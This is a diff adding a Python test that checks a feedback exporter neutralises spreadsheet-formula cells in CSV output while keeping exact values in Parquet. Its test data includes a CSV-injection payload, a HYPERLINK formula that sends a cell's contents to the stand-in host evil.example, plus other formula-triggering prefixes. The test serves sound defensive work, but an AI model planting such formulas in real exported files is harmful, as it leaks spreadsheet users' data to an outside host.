@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import json
 
 import datasets
@@ -100,3 +101,32 @@ def test_unknown_format_is_refused(engine, store, tmp_path):
 def test_empty_database_exports_an_empty_table(engine, store, tmp_path):
     with Session(engine) as s:
         assert len(_read(export_feedback(s, tmp_path, "hf", store), "hf")) == 0
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "＝1+1"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(engine, store, tmp_path):
+    with Session(engine) as s, s.begin():
+        upload = add_upload(s, store, tag="formula")
+        for i, formula in enumerate(FORMULAS):
+            p = add_prediction(s, upload, kind="caption", label="cat", input_text=formula)
+            repo.record_correction(s, request_id=f"f{i}", prediction_id=p.id, field="caption", value=formula,
+                                   session_id="s1")
+            repo.record_rating(s, request_id=f"r{i}", prediction_id=p.id, session_id="s1", comment=formula)
+        plain = add_prediction(s, upload, kind="caption", label="cat", input_text="a cat = a pet").id
+    with Session(read_only_engine(engine)) as s:
+        csv_dir = export_feedback(s, tmp_path, "csv", store)
+        parquet_dir = export_feedback(s, tmp_path, "parquet", store)
+    with open(csv_dir / DATA_FILES["csv"], newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))  # the csv module keeps leading tabs / CRs that pandas would drop
+    stored = {"input_text": FORMULAS, "corrected_caption": [f.strip() for f in FORMULAS]}  # corrections are stripped
+    for column, values in stored.items():
+        cells = [row[column] for row in rows[: len(FORMULAS)]]
+        assert cells == ["'" + v if v[0] in "=+-@\t\r＝" else v for v in values], cells
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in cells)
+    # comments inside ratings_json start with '[' (JSON), so they are inert; the plain row is untouched
+    assert rows[len(FORMULAS)]["input_text"] == "a cat = a pet" and int(rows[len(FORMULAS)]["prediction_id"]) == plain
+    assert pd.read_csv(csv_dir / DATA_FILES["csv"])["latency_ms"].dtype.kind == "f"  # numbers stay numbers
+    # the data formats keep the exact values
+    assert list(pd.read_parquet(parquet_dir / DATA_FILES["parquet"])["input_text"][: len(FORMULAS)]) == FORMULAS
